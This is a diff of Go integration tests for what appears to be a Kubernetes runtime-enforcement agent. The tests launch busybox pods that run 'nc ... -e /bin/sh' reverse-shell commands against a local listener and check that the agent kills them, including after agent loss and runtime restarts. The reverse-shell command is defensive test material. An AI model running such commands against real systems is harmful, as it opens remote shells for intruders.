@@ -38,7 +38,7 @@ func agentDown(t *testing.T) func() {
 func TestAgentGoneKeepsEnforcementAndNoDeadlock(t *testing.T) {
 	ns := namespace(t, cluster.prefix+"-down")
 	l := listen(t, "127.0.0.1:0")
-	trigger := fmt.Sprintf("while [ ! -e /tmp/go ]; do sleep 0.2; done; nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.port())
+	trigger := fmt.Sprintf("while [ ! -e /tmp/go ]; do sleep 0.2; done; nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.Port())
 	kubectl(t, podSpec{ns: ns, name: "waiting", image: "busybox", shell: "/bin/sh", hostNetwork: true, script: trigger}.manifest(), "apply", "-f", "-")
 	kubectl(t, podSpec{ns: ns, name: "survivor", image: "busybox", shell: "/bin/sh", script: "sleep 3600"}.manifest(), "apply", "-f", "-")
 	kubectl(t, "", "-n", ns, "wait", "--for=condition=Ready", "pod/waiting", "pod/survivor", "--timeout=60s")
@@ -60,7 +60,7 @@ func TestAgentGoneKeepsEnforcementAndNoDeadlock(t *testing.T) {
 		return nil
 	})
 	logs := kubectl(t, "", "-n", ns, "logs", "waiting")
-	if !strings.Contains(logs, "rc=137") || l.answered.Load() {
+	if !strings.Contains(logs, "rc=137") || answered(l) {
 		t.Errorf("with the agent gone the reverse shell was not killed: %q", logs)
 	}
 	kubectl(t, podSpec{ns: ns, name: "refused", image: "busybox", shell: "/bin/sh", script: "echo started"}.manifest(), "apply", "-f", "-")
@@ -113,12 +113,12 @@ func TestRuntimeRestartsWhileDaemonSetExists(t *testing.T) {
 			t.Errorf("after the %s restart a plain pod exited %d", what, code)
 		}
 		_, logs := run(t, podSpec{ns: ns, name: "revshell-after-" + what, image: "busybox", shell: "/bin/sh", hostNetwork: true,
-			script: fmt.Sprintf("nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.port())})
+			script: fmt.Sprintf("nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.Port())})
 		if !strings.Contains(logs, "rc=137") {
 			t.Errorf("after the %s restart the reverse shell was not killed: %q", what, logs)
 		}
 	}
-	if l.answered.Load() {
+	if answered(l) {
 		t.Errorf("a shell answered the listener")
 	}
 }
